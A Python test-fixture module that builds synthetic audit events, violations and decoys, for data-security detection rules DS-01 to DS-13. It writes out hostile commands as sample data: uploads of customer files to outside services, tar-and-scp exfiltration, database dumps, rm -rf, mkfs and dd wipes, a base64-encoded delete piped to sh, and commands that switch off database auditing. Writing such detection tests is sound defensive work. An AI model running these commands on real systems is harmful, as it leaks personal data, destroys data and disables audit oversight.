"""Violations and decoys of DS-01 … DS-13."""
from datetime import timedelta

import lines as L
from ordinary import minutes
from people import ADDRESS, BASTION, BY, LEAVER, MANAGER, OWNER, OWNER2, at, change, iso, ticket

OS, DBA, CASE, AN, DEV = BY["os_admin"], BY["dba"], BY["case_worker"], BY["analyst"], BY["developer"]
JS = BASTION["jumpserver"]


def seconds(n):
    return timedelta(seconds=n)


def one(b, kind, p, host, t, command, risk=0):
    """A bastion session of one command; returns its record."""
    s = L.Session(b, kind, p, host, t)
    r = s.run(t + seconds(40), command, risk)
    s.close(t + seconds(150))
    return r


def everything(b):
    reading(b)
    exports(b)
    changes(b)
    destruction(b)
    by_hand(b)


def reading(b):
    p, t = CASE[0], at("09-07", "19:20:00")
    b.expect("DS-01", p, L.web(b, t, p, "view", "loan_file", 80331, level="L4", system="loan", ticket=False), "High", "L4 read, ticket empty (DS-01 Logic)")
    p = CASE[1]
    b.expect("DS-01", p, L.web(b, t, p, "view", "customer", 771201, ticket=dict(type="case", id="QCS-1", assignee=CASE[2].id, state="open")), "Medium", "reader is not the ticket's assignee (DS-01 Logic)")
    b.expect("DS-01", p, L.web(b, t + minutes(9), p, "view", "customer", 771299, ticket=dict(type="case", id="QCS-2", assignee=p.id, state="closed")), "Medium", "ticket not open at event time (DS-01 Logic)")
    p = AN[1]
    b.expect("DS-01", p, [L.pg(b, at("09-08", "11:02:00"), p.login, JS, "READ", "SELECT", "public.customer", "select name, city from customer where id = 77", 1)], "Medium", "L3 read in a database client without request (DS-01 Text)")
    b.expect("DS-01", p, [L.mongo(b, at("09-08", "11:32:00"), p.login, JS, "find", "track.parcels", dict(find="parcels", filter=dict(_id=12), limit=1))], "Medium", "L3 read in a database client without request (DS-01 Text)")
    b.expect("DS-01", p, [L.maria(b, at("09-08", "11:42:00"), p.login, JS, "QUERY", "select name from loan.borrower where id = 4")], "High", "L4 read in a database client without request (DS-01 Text)")
    b.decoy("DS-01", CASE[3], L.web(b, t, CASE[3], "query", "customer_list", "q-1", level="L2", ticket=False), "search list with masked columns counts as L2 (DS-01 FP)")
    # DS-02
    p, t = CASE[4], at("09-08", "19:02:00")
    got = [r for n in range(201) for r in L.web(b, t + seconds(17 * n), p, "view", "customer", 300000 + n * 37)]
    b.expect("DS-02", p, got, "High", "201 distinct persons within an hour (DS-02 Text, default 200)")
    p = CASE[5]
    b.decoy("DS-02", p, [r for n in range(200) for r in L.web(b, t + seconds(17 * n), p, "view", "customer", 400000 + n * 41)], "exactly 200 distinct persons within an hour (DS-02 Text)")
    p, t = CASE[6], at("09-09", "19:05:00")
    b.expect("DS-02", p, [r for n in range(30) for r in L.web(b, t + seconds(15 * n), p, "view", "customer", 520000 + n)], "High", "30 consecutive ids in 10 min (DS-02 Logic)")
    p = CASE[7]
    b.decoy("DS-02", p, [r for n in range(29) for r in L.web(b, t + seconds(15 * n), p, "view", "customer", 530000 + n)], "29 consecutive ids (DS-02 Logic: >= 30)")
    p, t = AN[2], at("09-09", "10:40:00")
    b.tickets.append(ticket("QDA-010", "data_access", p, dict(objects=["desk.public.customer", "loan.borrower"], operations=["read"]), at("09-09", "08:00:00"), at("09-09", "18:00:00")))
    b.expect("DS-02", p, [L.pg(b, t, p.login, JS, "READ", "SELECT", "public.customer", "select id, city from customer where city = 'graz'", 201)], "High", "one query returns 201 rows > bulk_rows 200 (DS-02 Logic)")
    b.decoy("DS-02", p, [L.pg(b, t + minutes(61), p.login, JS, "READ", "SELECT", "public.customer", "select id, city from customer where city = 'linz'", 200)], "one query returns 200 rows = bulk_rows (DS-02 Logic)")
    # DS-04
    p, t = CASE[8], at("09-09", "19:10:00")
    b.expect("DS-04", p, L.web(b, t, p, "unmask", "customer", 660001, ticket=False), "Medium", "unmask without reason (DS-04 Logic)")
    p = CASE[9]
    b.expect("DS-04", p, [r for n in range(21) for r in L.web(b, t + seconds(150 * n), p, "unmask", "customer", 610000 + 13 * n)], "Medium", "21 unmask actions in an hour (DS-04 Logic)")
    p = CASE[10]
    b.decoy("DS-04", p, [r for n in range(20) for r in L.web(b, t + seconds(150 * n), p, "unmask", "customer", 620000 + 13 * n)], "20 unmask actions in an hour (DS-04 Logic)")
    p = AN[2]
    b.expect("DS-04", p, [L.pg(b, at("09-09", "12:40:00"), p.login, JS, "READ", "SELECT", "public.customer", "SELECT c.* FROM customer c WHERE id < 9", 8)], "Medium", "SELECT * on a table with personal data by a person (DS-04 Logic)")
    b.expect("DS-04", p, [L.maria(b, at("09-09", "12:50:00"), p.login, JS, "QUERY", "select * from loan.borrower where id = 9")], "Medium", "SELECT * on a table with personal data by a person (DS-04 Logic)")
    b.decoy("DS-04", DBA[0], [L.pg(b, at("09-09", "12:55:00"), DBA[0].login, JS, "READ", "SELECT", "public.job_queue", "select * from job_queue limit 5", 5)], "table without personal data (DS-04 Logic)")


def exports(b):
    p, t = CASE[11], at("09-10", "19:02:00")
    b.expect("DS-03", p, L.web(b, t, p, "export", "customer_list", "q-31", ticket=False, object=dict(count=80, fields=["name"]), rows=80), "High", "export without a covering row (DS-03 Logic)")
    p = CASE[12]
    b.expect("DS-03", p, L.web(b, t, p, "download", "loan_file", 9911, level="L4", system="loan", ticket=False, rows=1), "Critical", "L4 download without any ticket (DS-03 Severity)")
    p = AN[2]
    b.tickets.append(ticket("QDR-050", "data_export", p, dict(objects=["customer_list"], fields=["name", "city"]), at("09-10", "08:00:00"), at("09-11", "18:00:00"), row_limit=100))
    b.expect("DS-03", p, L.web(b, at("09-10", "17:10:00"), p, "export", "customer_list", "q-32", ticket=dict(type="data_export", id="QDR-050"), object=dict(count=101, fields=["name"]), rows=101), "High", "101 rows > row_limit 100 (DS-03 Logic)")
    b.expect("DS-04", p, L.web(b, at("09-11", "10:10:00"), p, "export", "customer_list", "q-33", ticket=dict(type="data_export", id="QDR-050"), object=dict(count=90, fields=["name", "mobile"]), rows=90), "Medium", "column mobile is not among the approved fields (DS-04 Logic)")
    b.tickets.append(ticket("QDR-051", "data_export", AN[1], dict(objects=["customer_list"], fields=["name", "city"]), at("09-10", "08:00:00"), at("09-11", "18:00:00"), row_limit=100, single_use=True))
    first = L.web(b, at("09-10", "10:10:00"), AN[1], "export", "customer_list", "q-34", ticket=dict(type="data_export", id="QDR-051"), object=dict(count=50, fields=["name"]), rows=50)
    b.decoy("DS-03", AN[1], first, "first use of a single_use ticket (DS-03 Logic)")
    b.expect("DS-03", AN[1], L.web(b, at("09-10", "15:10:00"), AN[1], "export", "customer_list", "q-35", ticket=dict(type="data_export", id="QDR-051"), object=dict(count=50, fields=["name"]), rows=50), "High", "second use of a single_use ticket (DS-03 Logic)")
    p = AN[2]
    b.expect("DS-03", p, [L.pg(b, at("09-10", "11:10:00"), p.login, JS, "READ", "COPY", "public.customer", "COPY (select id, name from customer limit 40) TO '/tmp/x.csv' CSV", 40)], "High", "COPY … TO by a person (DS-03 Logic)")
    r = L.maria(b, at("09-10", "11:20:00"), p.login, JS, "QUERY", "SELECT id, name FROM loan.borrower LIMIT 9 INTO OUTFILE '/var/lib/mysql-files/b.txt'")
    b.expect("DS-03", p, [r], "Critical", "INTO OUTFILE of L4 without ticket (DS-03 Logic, Severity)")
    b.expect("DS-01", p, [r], "High", "L4 read without request (DS-01 Logic)")
    for kind, p, host, command in (("jumpserver", OS[0], "loan-my-01", "mysqldump --single-transaction loan borrower"), ("teleport", OS[1], "desk-pg-01", "pg_dump -t customer desk"),
                                   ("bastionhost", OS[2], "track-mongo-01", "mongodump --db track --out /srv/o")):
        r = one(b, kind, p, host, at("09-10", "13:20:00"), command)
        b.expect("DS-03", p, [r], "Critical" if host == "loan-my-01" else "High", "dump by a person without ticket (DS-03 Logic)")
    p = OS[3]
    b.expect("DS-03", p, L.auditd(b, "desk-pg-01", at("09-10", "14:10:00"), ["/usr/bin/psql", "-d", "desk", "-c", "\\copy customer to '/srv/c.csv'"], person=p), "High", r"\copy by a person (DS-03 Logic)")
    # DS-05
    for kind, p, host in (("jumpserver", OS[0], "desk-app-01"), ("teleport", OS[1], "fleet-node-01"), ("bastionhost", OS[2], "mail-relay-01")):
        t = at("09-11", "09:52:00")
        s = L.Session(b, kind, p, host, t)
        b.expect("DS-05", p, [s.ftp(t + seconds(70), "/srv/report/customers.xlsx")], "High", "download from production without ticket (DS-05 Logic)")
        b.decoy("DS-05", p, [s.ftp(t + seconds(130), "/srv/in/banner.png", "upload")], "an upload leaves nothing (DS-05 Text)")
        s.close(t + seconds(200))
    p, t = OS[3], at("09-11", "10:20:00")
    s = L.Session(b, "jumpserver", p, "desk-app-03", t)
    got = [s.run(t + minutes(1), "tar czf /srv/out.tgz /srv/customers"), s.run(t + minutes(9), "scp /srv/out.tgz mia@10.160.1.11:/home/")]
    s.close(t + minutes(12))
    b.expect("DS-05", p, got, "Critical", "tar then scp in 60 min (DS-05 Logic, Severity)")
    p = OS[4]
    b.tickets.append(ticket("QDR-060", "data_export", p, dict(assets=["desk-app-05"], paths=["/srv/vendor/"]), at("09-11", "09:00:00"), at("09-11", "18:00:00")))
    s = L.Session(b, "jumpserver", p, "desk-app-05", t)
    b.decoy("DS-05", p, [s.ftp(t + minutes(1), "/srv/vendor/bundle.tgz")], "QDR-060 covers asset and path (DS-05 Logic)")
    s.close(t + minutes(5))
    # DS-06
    for kind, p, host, command in (("jumpserver", OS[5], "desk-app-02", "curl -T /srv/a.csv https://transfer.sh/a.csv"), ("teleport", OS[4], "fleet-node-03", "curl -F file=@/srv/a.csv https://file.io"),
                                   ("bastionhost", OS[6], "mail-relay-02", "git push https://github.com/zz/notes.git main"), ("jumpserver", OS[7], "desk-app-06", "rclone copy /srv/a gdrive:backup")):
        b.expect("DS-06", p, [one(b, kind, p, host, at("09-11", "11:20:00"), command)], "High", "upload to outside storage (DS-06 Logic)")
    b.decoy("DS-06", OS[5], [one(b, "jumpserver", OS[5], "desk-app-02", at("09-11", "11:40:00"), "curl -O https://mirror.quarry.example/desk.tgz")], "download of a mirror (DS-06 FP)")
    p, t = OS[6], at("09-11", "13:00:00")
    for r in (L.actiontrail(b, t, p.login, "PutBucketAcl", "Oss", {"BucketName": "quarry-customer-files", "x-oss-acl": "public-read"}, ip=p.ip),
              L.cloudtrail(b, t + minutes(30), p.login, "PutBucketAcl", "s3", {"bucketName": "quarry-customer-files", "x-amz-acl": "public-read"}, ip=p.ip)):
        b.expect("DS-06", p, [r], "Critical", "bucket made public (DS-06 Logic, Severity)")
        b.expect("DS-23", p, [r], "High", "public access set by hand (DS-23 Text)")
        b.expect("DS-07", p, [r], "High", "cloud change without change row (DS-07 Logic)")
    r = L.cloudtrail(b, t + minutes(50), p.login, "ModifySnapshotAttribute", "ec2", dict(snapshotId="snap-0a1", attributeType="CREATE_VOLUME_PERMISSION", createVolumePermission=dict(add=dict(items=[dict(userId="999988887777")]))), ip=p.ip)
    b.expect("DS-06", p, [r], "Critical", "snapshot shared with a foreign account (DS-06 Logic)")


def changes(b):
    for kind, p, host, command in (("jumpserver", OS[0], "desk-app-01", "yum -y install telnetd-tools"), ("teleport", OS[1], "fleet-node-01", "sed -i s/a/b/ /etc/nginx/nginx.conf"),
                                   ("bastionhost", OS[2], "mail-relay-01", "systemctl restart postfix")):
        b.expect("DS-07", p, [one(b, kind, p, host, at("09-07", "11:20:00"), command)], "High", "changing command, no change row (DS-07 Logic)")
    p = BY["releaser"][0]
    b.expect("DS-07", p, [L.kube(b, at("09-07", "12:00:00"), p.login, "patch", "deployments", "web", "shop", p.ip)], "High", "k8s write verb, no change row (DS-07 Evidence)")
    b.expect("DS-07", p, [L.kube(b, at("09-07", "12:20:00"), p.login, "update", "configmaps", "web", "shop-conf", p.ip)], "High", "k8s write verb, no change row (DS-07 Evidence)")
    b.decoy("DS-07", p, [L.kube(b, at("09-07", "12:30:00"), p.login, "get", "deployments", "web", "shop", p.ip)], "read only (DS-07 FP)")
    p = DBA[0]
    b.expect("DS-07", p, [L.pg(b, at("09-07", "14:00:00"), p.login, JS, "DDL", "ALTER TABLE", "public.job_queue", "alter table job_queue add column prio int")], "High", "DDL, no change row (DS-07 Logic)")
    b.expect("DS-07", p, [L.maria(b, at("09-07", "14:20:00"), p.login, JS, "QUERY", "create index r1 on rate_cache (state)")], "High", "DDL, no change row (DS-07 Logic)")
    p, t = OS[3], at("09-08", "20:00:00")
    b.changes.append(change("QCH-110", ["desk-app-02"], [p], t, t + minutes(60), skip=("test",)))
    b.expect("DS-07", p, [one(b, "jumpserver", p, "desk-app-02", t + minutes(5), "apt-get install -y htop")], "High", "QCH-110 has no test step (DS-07 Logic)")
    t = at("09-01", "20:00:00")
    b.changes.append(change("QCH-111", ["desk-app-06"], [OS[5]], t, t + minutes(60), skip=("review",)))
    b.expect("DS-07", OS[5], [], "Medium", "QCH-111: no review within 5 working days after window_end (DS-07 Logic)")
    # DS-08
    for n, (minute, kind, p, host, severity) in enumerate(((10, "jumpserver", OS[4], "desk-app-05", "Low"), (40, "teleport", OS[5], "fleet-node-04", "Medium"), (-90, "bastionhost", OS[6], "mail-relay-03", "Medium"))):
        start, end = at("09-09", "20:00:00"), at("09-09", "21:00:00")
        b.changes.append(change(f"QCH-12{n}", [host], [p], start, end))
        t = end + minutes(minute) if minute > 0 else start + minutes(minute)
        s = L.Session(b, kind, p, host, t - minutes(1))
        b.expect("DS-08", p, [s.run(t, "systemctl restart rsyncd")], severity, f"{abs(minute)} min outside the window of QCH-12{n} (DS-08 Logic)")
        s.close(t + minutes(1))
        if minute > 0:
            b.expect("AU-21", p, s.all, "High", "session outside working hours, the window is over (AU-21 Logic)")
    # DS-09
    p, t = OS[7], at("09-10", "20:00:00")
    b.changes.append(change("QCH-130", ["core-rt-01"], [p], t, t + minutes(60), level="important", reviewers=[OWNER.id]))
    one(b, "bastionhost", p, "core-rt-01", t + minutes(5), "sed -i s/10/20/ /etc/frr/frr.conf")
    b.expect("DS-09", p, [], "High", "QCH-130: one reviewer only (DS-09 Logic)")
    p = OS[6]
    b.changes.append(change("QCH-131", ["vault-01"], [p], t, t + minutes(60), level="important", reviewers=[OWNER.id, p.id]))
    one(b, "jumpserver", p, "vault-01", t + minutes(5), "systemctl restart vault")
    b.expect("DS-09", p, [], "High", "QCH-131: reviewer = implementer (DS-09 Logic)")
    p = OS[5]
    b.changes.append(change("QCH-132", ["fleet-node-05"], [p], t, t + minutes(60), level="important"))
    s = L.Session(b, "teleport", p, "fleet-node-05", t + minutes(3))
    join = L.teleport(b, t + minutes(4), "session.join", "T2001I", user=MANAGER.login, sid=s.id, login=p.login, server_id="fleet-node-05", server_hostname="fleet-node-05")
    b.decoy("DS-09", p, [join, s.run(t + minutes(6), "systemctl restart fleetd")], "two reviewers and a second person in the session (DS-09 Logic)")
    s.close(t + minutes(10))
    # DS-10
    p, t = OS[4], at("09-07", "22:00:00")
    b.changes.append(change("QCH-140", ["desk-app-04"], [p], t, t + minutes(60), level="emergency", skip=("request", "assess", "approve", "test", "review")))
    s = L.Session(b, "jumpserver", p, "desk-app-04", t + minutes(1))
    s.run(t + minutes(2), "systemctl restart desk")
    s.close(t + minutes(9))
    b.expect("DS-10", p, [], "Medium", "QCH-140: no review within 2 working days (DS-10 Logic)")
    b.expect("DS-10", p, [], "Medium", "QCH-140: no approve step within 2 h of the first action (DS-10 Logic)")
    assert iso and OWNER2 and LEAVER


def destruction(b):
    t = at("09-08", "13:10:00")
    for kind, p, host, command in (("jumpserver", OS[0], "desk-app-01", "rm -rf /srv/customers"), ("teleport", OS[1], "fleet-node-01", "rm -fr /var/lib/fleet"),
                                   ("bastionhost", OS[2], "mail-relay-01", "mkfs.ext4 /dev/sdb1"), ("jumpserver", OS[3], "desk-app-02", "dd if=/dev/zero of=/dev/sdc bs=1M")):
        r = one(b, kind, p, host, t, command)
        b.expect("DS-11", p, [r], "High", "destructive, executed, no open change (DS-11 Logic)")
    p = DBA[1]
    r = L.pg(b, t, p.login, JS, "DDL", "DROP TABLE", "public.job_queue", "drop table job_queue")
    b.expect("DS-11", p, [r], "High", "DROP executed, no open change (DS-11 Logic)")
    b.expect("DS-07", p, [r], "High", "DDL, no change row (DS-07 Logic)")
    r = L.maria(b, t + minutes(1), p.login, JS, "QUERY", "truncate table rate_cache")
    b.expect("DS-11", p, [r], "High", "TRUNCATE executed, no open change (DS-11 Logic)")
    r = L.mongo(b, t + minutes(2), p.login, JS, "", "", dict(ns="track.parcels"), atype="dropCollection")
    b.expect("DS-11", p, [r], "High", "collection dropped, no open change (DS-11 Text)")
    p = BY["releaser"][1]
    b.expect("DS-11", p, [L.kube(b, t, p.login, "delete", "namespaces", "", "shop-old", p.ip)], "High", "kubectl delete ns (DS-11 Text)")
    p = OS[4]
    b.expect("DS-11", p, [L.actiontrail(b, t, p.login, "DeleteBucket", "Oss", dict(BucketName="quarry-logs-old"), ip=p.ip)], "High", "bucket delete (DS-11 Text)")
    b.expect("DS-11", p, [L.cloudtrail(b, t + minutes(20), p.login, "TerminateInstances", "ec2", dict(instancesSet=dict(items=[dict(instanceId="i-01")])), ip=p.ip)], "High", "service destroyed (DS-11 Text)")
    p = OS[5]
    b.expect("DS-11", p, L.auditd(b, "desk-app-05", t, ["rm", "-r", "-f", "/srv/archive"], person=p), "High", "destructive EXECVE, no open change (DS-11 Evidence)")
    p, t = OS[6], at("09-08", "15:10:00")
    s = L.Session(b, "jumpserver", p, "desk-app-03", t)
    got = [s.run(t + minutes(1), "rm -rf /srv/desk", 5), s.run(t + minutes(4), "echo cm0gLXJmIC9zcnYvZGVzaw== | base64 -d | sh")]
    s.close(t + minutes(6))
    b.expect("DS-11", p, got, "Critical", "rejected, within 10 min encoded (DS-11 Logic)")
    p = OS[7]
    s = L.Session(b, "bastionhost", p, "mail-relay-04", t)
    b.expect("DS-11", p, [s.run(t + minutes(n), f"rm -rf /srv/mail{n}", 5) for n in (1, 2, 3)], "Medium", "three rejected commands in a session (DS-11 Logic)")
    s.close(t + minutes(6))
    p, t = OS[0], at("09-08", "16:10:00")
    s = L.Session(b, "jumpserver", p, "desk-app-01", t)
    b.decoy("DS-11", p, [s.run(t + minutes(1), "rm -rf /tmp/build-771"), s.run(t + minutes(2), "echo 'rm -rf /srv is forbidden'"), s.run(t + minutes(3), "grep -rn 'DROP TABLE' /opt/desk/sql")], "temporary path, echo string, search (DS-11 FP)")
    s.close(t + minutes(4))


def by_hand(b):
    p, t = AN[1], at("09-11", "14:05:00")
    for r, severity, why in ((L.pg(b, t, p.login, JS, "WRITE", "UPDATE", "public.customer", "update customer set city = 'wien' where id = 3", 1), "High", "DML by a person, no data_access row (DS-12 Logic)"),
                             (L.maria(b, t + minutes(1), p.login, JS, "QUERY", "insert into loan.borrower (id, name) values (1, 'x')"), "High", "DML by a person, no data_access row (DS-12 Logic)"),
                             (L.mongo(b, t + minutes(2), p.login, JS, "update", "track.parcels", dict(update="parcels", updates=[dict(q=dict(_id=1), u=dict(s=2))])), "High", "DML by a person, no data_access row (DS-12 Logic)")):
        b.expect("DS-12", p, [r], severity, why)
    r = L.maria(b, t + minutes(5), p.login, JS, "QUERY", "delete from rate_cache")
    b.expect("DS-12", p, [r], "High", "DELETE without WHERE (DS-12 Logic)")
    b.expect("DS-11", p, [r], "High", "DELETE without WHERE (DS-11 Text)")
    p = AN[0]
    b.tickets.append(ticket("QDA-020", "data_access", p, dict(objects=["desk.public.customer"], fields=["city"], operations=["write"]), at("09-11", "13:00:00"), at("09-11", "18:00:00"), row_limit=10))
    b.decoy("DS-12", p, [L.pg(b, t, p.login, JS, "WRITE", "UPDATE", "public.customer", "update customer set city = 'graz' where id between 1 and 10", 10)], "QDA-020 covers table and 10 rows (DS-12 Logic)")
    b.expect("DS-12", p, [L.pg(b, t + minutes(9), p.login, JS, "WRITE", "UPDATE", "public.customer", "update customer set city = 'graz' where id between 1 and 11", 11)], "High", "11 rows > 10 announced (DS-12 Logic)")
    # DS-13
    p, t = DBA[2], at("09-10", "15:05:00")
    for r, severity in ((L.pg(b, t, p.login, JS, "READ", "SELECT", "public.customer", "select name from customer where id = 3", 1), "High"),
                        (L.maria(b, t + minutes(2), p.login, JS, "QUERY", "select name from loan.borrower where id = 5"), "Critical"),
                        (L.mongo(b, t + minutes(4), p.login, JS, "find", "track.parcels", dict(find="parcels", filter=dict(_id=5), limit=1)), "High")):
        b.expect("DS-13", p, [r], severity, "a DBA reads rows of L3/L4 (DS-13 Logic; Critical by the raise for L4)")
        b.expect("DS-01", p, [r], "High" if severity == "Critical" else "Medium", "read without reason on record (DS-01 Logic)")
    p = DBA[3]
    for r in (L.pg(b, t, p.login, JS, "MISC_SET", "SET", "", "SET pgaudit.log = 'none'"), L.maria(b, t + minutes(2), p.login, JS, "QUERY", "SET GLOBAL server_audit_logging=OFF"),
              L.pg(b, t + minutes(5), p.login, JS, "MISC", "ALTER SYSTEM", "", "ALTER SYSTEM SET log_statement = 'none'")):
        b.expect("DS-13", p, [r], "Critical", "database audit parameter changed (DS-13 Logic, Severity)")
        b.expect("LA-05", p, [r], "Critical", "audit switched off (LA-05 Text)")
    b.expect("DS-13", p, [L.mongo(b, t + minutes(7), p.login, JS, "", "", dict(config=dict(auditAuthorizationSuccess=False)), atype="auditConfigure")], "Critical", "database audit parameter changed (DS-13 Logic)")
    b.decoy("DS-13", p, [L.pg(b, t - minutes(9), p.login, JS, "READ", "SELECT", "public.customer", "select count(*) from customer", 1), L.pg(b, t - minutes(8), p.login, JS, "MISC", "ANALYZE", "", "analyze customer")], "count(*) and ANALYZE read no rows (DS-13 Logic)")
    assert ADDRESS and CASE
